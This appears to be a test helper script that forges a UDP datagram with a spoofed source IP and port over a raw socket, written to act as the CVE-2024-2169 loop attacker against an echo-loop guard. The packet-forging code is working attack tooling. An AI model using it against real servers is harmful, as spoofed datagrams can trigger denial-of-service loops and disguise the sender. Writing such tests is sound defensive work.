"""Sends one UDP datagram with a forged IPv4 source address and port (needs CAP_NET_RAW, i.e. root).

usage: forge_datagram.py SRC_IP SRC_PORT DST_IP DST_PORT PAYLOAD

The test of the echo-loop guard uses it to play the attacker of CVE-2024-2169: one datagram to server A
that appears to come from server B's port. Exit code 0 when sent, 77 when raw sockets are not permitted.
"""
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main():
    src_ip, src_port, dst_ip, dst_port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5].encode()
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
    udp = struct.pack("!HHHH", src_port, dst_port, udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    total = 20 + udp_len
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 54321, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        sys.exit(77)
    s.sendto(ip + udp, (dst_ip, 0))


if __name__ == "__main__":
    main()
